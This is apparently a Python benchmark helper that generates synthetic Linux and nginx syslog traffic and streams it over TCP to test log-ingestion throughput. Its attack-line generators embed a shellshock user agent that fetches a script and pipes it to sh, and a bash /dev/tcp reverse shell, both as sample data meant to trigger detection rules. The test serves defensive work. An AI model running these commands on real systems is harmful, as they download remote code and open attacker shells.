#!/usr/bin/env python3
"""Stream generator and sender for bench/syslog_ingest_bench.sh (docs/PERFORMANCE.md, "Syslog").

  syslog_sender.py generate FILE [--messages N] [--seed S]
      Writes N LF-terminated syslog lines (deterministic for a given N and seed): a Linux
      fleet's mix of RFC 3164 lines (sshd, pam_unix, CRON, sudo, systemd, kernel netfilter,
      postfix) and RFC 5424 lines with structured data (nginx access, auditd-like, an app's
      JSON), 150-250 bytes each; about 2% fire SigmaHQ Linux rules (sshd "unexpected internal
      error" and its siblings, shellshock "() { :; };", /dev/tcp reverse shells).
  syslog_sender.py send FILE HOST PORT
      Sends FILE's bytes over one TCP connection, 1 MiB sendall() at a time, as fast as the
      receiver takes them, then shuts the connection down. Prints, one per line,
      "start=EPOCH" just before the first byte, then "end=EPOCH bytes=B seconds=S MB/s=R"
      once the last byte was handed to the kernel.
"""
import argparse
import random
import socket
import sys
import time

MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]
USERS = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy",
         "deploy", "ansible", "backup", "nagios", "postgres", "www-data"]
ROLES = ["web", "app", "db", "cache", "mq", "lb", "mail", "build", "ci", "bastion"]
PATHS = ["/", "/index.html", "/api/v1/orders", "/api/v1/users/1842", "/static/js/app.3f9c1.js",
         "/static/css/site.css", "/login", "/healthz", "/api/v1/search?q=invoice+2026",
         "/images/logo.png", "/favicon.ico", "/api/v1/cart/items", "/robots.txt"]
AGENTS = ["Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
          "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/119.0 Safari/537.36",
          "curl/7.88.1", "Prometheus/2.45.0", "kube-probe/1.28", "python-requests/2.31.0"]
CRON_CMDS = ["[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi",
             "cd / && run-parts --report /etc/cron.hourly",
             "/usr/local/bin/backup.sh --incremental --target s3://backups/nightly >/dev/null 2>&1",
             "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
             "/usr/bin/certbot -q renew --deploy-hook 'systemctl reload nginx'"]
SUDO_CMDS = ["/usr/bin/systemctl restart nginx.service", "/usr/bin/journalctl -u postgresql --since today",
             "/usr/bin/apt-get update", "/usr/bin/tail -n 200 /var/log/auth.log",
             "/usr/bin/docker ps --format {{.Names}}", "/usr/sbin/iptables -L -n -v"]
SSHD_ATTACKS = ["error: unexpected internal error", "error: Corrupted MAC on input.",
                "error: key_from_blob: invalid certificate signing key",
                "fatal: buffer_get_string: bad string length 262144",
                "error: Local: crc32 compensation attack: network attack detected"]


class Gen:
    def __init__(self, seed):
        self.r = random.Random(seed)
        self.hosts = [f"{role}{i:02d}.prod.example.net" for role in ROLES for i in range(1, 13)]
        self.base = 1795219200.0  # 2026-11-21 00:00:00 UTC

    def ip(self, private=True):
        r = self.r
        if private:
            return f"10.{r.randrange(0, 40)}.{r.randrange(0, 256)}.{r.randrange(1, 255)}"
        return f"{r.randrange(11, 223)}.{r.randrange(0, 256)}.{r.randrange(0, 256)}.{r.randrange(1, 255)}"

    def ts3164(self, t):
        tm = time.gmtime(t)
        return f"{MONTHS[tm.tm_mon - 1]} {tm.tm_mday:2d} {tm.tm_hour:02d}:{tm.tm_min:02d}:{tm.tm_sec:02d}"

    def ts5424(self, t):
        tm = time.gmtime(t)
        ms = int((t - int(t)) * 1000)
        return (f"{tm.tm_year:04d}-{tm.tm_mon:02d}-{tm.tm_mday:02d}T{tm.tm_hour:02d}:{tm.tm_min:02d}:"
                f"{tm.tm_sec:02d}.{ms:03d}Z")

    def short(self, host):
        return host.split(".", 1)[0]

    # --- RFC 3164 ---------------------------------------------------------------------------
    def sshd(self, t, host, attack):
        r = self.r
        pid = r.randrange(1000, 65000)
        user = r.choice(USERS)
        src = self.ip(private=r.random() < 0.6)
        port = r.randrange(1024, 65535)
        if attack:
            msg = f"{r.choice(SSHD_ATTACKS)} [preauth] from {src} port {port} session {r.getrandbits(32):08x}"
        else:
            k = r.randrange(5)
            if k == 0:
                msg = (f"Accepted publickey for {user} from {src} port {port} ssh2: ED25519 "
                       f"SHA256:{r.getrandbits(180):045x}")
            elif k == 1:
                msg = f"Failed password for invalid user {user}{r.randrange(100)} from {src} port {port} ssh2"
            elif k == 2:
                msg = f"Received disconnect from {src} port {port}:11: disconnected by user, session closed cleanly"
            elif k == 3:
                msg = f"pam_unix(sshd:session): session opened for user {user}(uid={r.randrange(1000, 1100)}) by (uid=0)"
            else:
                msg = f"Connection closed by authenticating user {user} {src} port {port} [preauth] after 3 tries"
        pri = 38 if r.random() < 0.5 else 86  # auth.info / authpriv.info
        return f"<{pri}>{self.ts3164(t)} {self.short(host)} sshd[{pid}]: {msg}"

    def cron(self, t, host):
        r = self.r
        return (f"<78>{self.ts3164(t)} {self.short(host)} CRON[{r.randrange(1000, 65000)}]: "
                f"(root) CMD ({r.choice(CRON_CMDS)})")

    def sudo(self, t, host):
        r = self.r
        u = r.choice(USERS[:10])
        return (f"<85>{self.ts3164(t)} {self.short(host)} sudo: {u} : TTY=pts/{r.randrange(8)} ; "
                f"PWD=/home/{u} ; USER=root ; COMMAND={r.choice(SUDO_CMDS)}")

    def systemd(self, t, host):
        r = self.r
        u = r.choice(USERS)
        k = r.randrange(3)
        if k == 0:
            msg = f"Started session-{r.randrange(1, 90000)}.scope - Session {r.randrange(1, 90000)} of User {u}."
        elif k == 1:
            msg = (f"logrotate.service: Deactivated successfully. Consumed {r.randrange(1, 900)}ms CPU time, "
                   f"{r.randrange(1, 64)}.{r.randrange(10)}M memory peak.")
        else:
            msg = f"Starting apt-daily.service - Daily apt download activities for {self.short(host)} (timer)..."
        return f"<30>{self.ts3164(t)} {self.short(host)} systemd[1]: {msg}"

    def kernel(self, t, host):
        r = self.r
        mac = ":".join(f"{r.randrange(256):02x}" for _ in range(14))
        proto = r.choice(["TCP", "UDP"])
        return (f"<4>{self.ts3164(t)} {self.short(host)} kernel: [{r.randrange(1, 9000000)}.{r.randrange(1000000):06d}] "
                f"DROP IN=eth0 OUT= MAC={mac} SRC={self.ip(False)} DST={self.ip()} LEN={r.randrange(40, 1500)} "
                f"TTL={r.randrange(30, 128)} ID={r.randrange(65536)} PROTO={proto} SPT={r.randrange(1024, 65535)} "
                f"DPT={r.choice([22, 23, 445, 3389, 8080])}")

    def postfix(self, t, host):
        r = self.r
        qid = f"{r.getrandbits(40):010X}"
        return (f"<22>{self.ts3164(t)} {self.short(host)} postfix/smtp[{r.randrange(1000, 65000)}]: {qid}: "
                f"to=<{r.choice(USERS)}@example.org>, relay=mx{r.randrange(1, 4)}.example.org[{self.ip(False)}]:25, "
                f"delay={r.random():.2f}, dsn=2.0.0, status=sent (250 2.0.0 Ok: queued)")

    # --- RFC 5424 ---------------------------------------------------------------------------
    def nginx(self, t, host, attack):
        r = self.r
        src = self.ip(private=r.random() < 0.3)
        if attack:
            path, agent = "/cgi-bin/status.cgi", "() { :; }; /bin/bash -c 'wget -qO- http://" + self.ip(False) + "/x|sh'"
        else:
            path, agent = r.choice(PATHS), r.choice(AGENTS)
        sd = f'[req@32473 id="{r.getrandbits(64):016x}" upstream="10.0.9.{r.randrange(1, 30)}:8080"]'
        return (f"<190>1 {self.ts5424(t)} {host} nginx {r.randrange(1000, 65000)} access {sd} "
                f'{src} - - "GET {path} HTTP/1.1" {r.choice([200, 200, 200, 304, 404, 502])} '
                f'{r.randrange(100, 90000)} "{agent}"')

    def audit(self, t, host, attack):
        r = self.r
        u = r.choice(USERS)
        if attack:
            cmd = f"bash -i >& /dev/tcp/{self.ip(False)}/4444 0>&1"
        else:
            cmd = r.choice(["ls -la /var/www", "systemctl status nginx", "df -h", "git pull --ff-only",
                            "tail -f /var/log/syslog", "ps aux --sort=-%mem"])
        sd = f'[audit@32473 uid="{r.randrange(1000, 1100)}" auid="{r.randrange(1000, 1100)}" ses="{r.randrange(1, 9000)}"]'
        return f"<110>1 {self.ts5424(t)} {host} bash {r.randrange(1000, 65000)} CMD {sd} user={u} cwd=/home/{u} cmd={cmd}"

    def app(self, t, host):
        r = self.r
        sd = (f'[meta sequenceId="{r.randrange(1, 10**7)}" sysUpTime="{r.randrange(1, 10**8)}"]'
              f'[origin ip="{self.ip()}" software="orders" swVersion="4.{r.randrange(20)}.{r.randrange(10)}"]')
        lvl = r.choice(["info", "info", "info", "warn", "error"])
        return (f"<{r.choice([134, 131, 132])}>1 {self.ts5424(t)} {host} orders {r.randrange(1000, 65000)} "
                f'ORD{r.randrange(100, 999)} {sd} {{"level":"{lvl}","order":{r.randrange(10**6, 10**7)},'
                f'"ms":{r.randrange(1, 900)}}}')

    def line(self, i, n):
        r = self.r
        t = self.base + i * 86400.0 / max(n, 1)
        host = r.choice(self.hosts)
        attack = r.random() < 0.02
        x = r.random()
        if attack:
            k = r.randrange(3)
            return (self.sshd(t, host, True) if k == 0 else self.nginx(t, host, True) if k == 1
                    else self.audit(t, host, True))
        if x < 0.25:
            return self.sshd(t, host, False)
        if x < 0.33:
            return self.cron(t, host)
        if x < 0.38:
            return self.sudo(t, host)
        if x < 0.46:
            return self.systemd(t, host)
        if x < 0.60:
            return self.kernel(t, host)
        if x < 0.68:
            return self.postfix(t, host)
        if x < 0.86:
            return self.nginx(t, host, False)
        if x < 0.92:
            return self.audit(t, host, False)
        return self.app(t, host)


def generate(path, n, seed):
    g = Gen(seed)
    out = []
    total = 0
    with open(path, "wb") as f:
        for i in range(n):
            out.append(g.line(i, n))
            if len(out) == 10000:
                data = ("\n".join(out) + "\n").encode()
                total += len(data)
                f.write(data)
                out.clear()
        if out:
            data = ("\n".join(out) + "\n").encode()
            total += len(data)
            f.write(data)
    print(f"{path}: {n} messages, {total} bytes, {total / max(n, 1):.0f} bytes/message", file=sys.stderr)


def send(path, host, port):
    with open(path, "rb") as f:
        data = f.read()  # up to a few hundred MB: in memory, so disk reads are not timed
    view = memoryview(data)
    chunk = 1 << 20
    sock = socket.create_connection((host, port))
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    start = time.time()
    print(f"start={start:.6f}", flush=True)
    for off in range(0, len(data), chunk):
        sock.sendall(view[off:off + chunk])
    sock.shutdown(socket.SHUT_WR)
    end = time.time()
    secs = end - start
    print(f"end={end:.6f} bytes={len(data)} seconds={secs:.3f} MB/s={len(data) / 1e6 / secs:.0f}", flush=True)
    # Wait for the receiver to close (it has read everything), without timing it.
    sock.settimeout(600)
    try:
        while sock.recv(65536):
            pass
    except OSError:
        pass
    sock.close()


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = p.add_subparsers(dest="cmd", required=True)
    g = sub.add_parser("generate")
    g.add_argument("file")
    g.add_argument("--messages", type=int, default=1000000)
    g.add_argument("--seed", type=int, default=42)
    s = sub.add_parser("send")
    s.add_argument("file")
    s.add_argument("host")
    s.add_argument("port", type=int)
    a = p.parse_args()
    if a.cmd == "generate":
        generate(a.file, a.messages, a.seed)
    else:
        send(a.file, a.host, a.port)


if __name__ == "__main__":
    main()
